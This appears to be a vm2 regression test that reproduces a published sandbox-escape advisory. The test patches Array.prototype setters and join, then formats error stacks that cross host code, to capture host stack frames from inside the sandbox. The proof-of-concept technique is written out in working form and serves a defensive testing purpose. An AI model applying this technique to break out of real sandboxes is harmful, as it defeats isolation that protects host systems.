// Source: vm2 test/ghsa/GHSA-q3fm-4wcw-g57x (fixed after vm2 3.11.2, by 3.12.2; PoC shape from vm2's
// lib/setup-sandbox.js comment for it), the GHSA-9qj6 pattern in the stack formatter: the default
// prepareStackTrace appended frames to a fresh sandbox array and joined it, so an Array.prototype[N]
// setter or a patched join saw every frame (CallSites of host frames included).
// Tried: install the setter and the join patch, then format stacks that cross host code.
const out = { captured: 0 };
for (const idx of [0, 1, 2, 3]) {
  try { Object.defineProperty(Array.prototype, idx, { configurable: true, set(v) { out.captured++; __wr.use(v, 'frame captured by Array.prototype setter'); }, get() { return undefined; } }); } catch (e) { out.define = String(e.message).slice(0, 60); }
}
try { Array.prototype.join = function () { out.joined = true; for (let i = 0; i < this.length; i++) __wr.use(this[i], 'joined frame'); return ''; }; } catch (e) {}
try { out.stack = typeof new Error('x').stack; } catch (e) {}
try { new URLSearchParams('a=1').forEach(() => { out.inner = typeof new Error('y').stack; }); } catch (e) {}
try { new URL(''); } catch (e) { out.hostStack = typeof e.stack; }
return out;
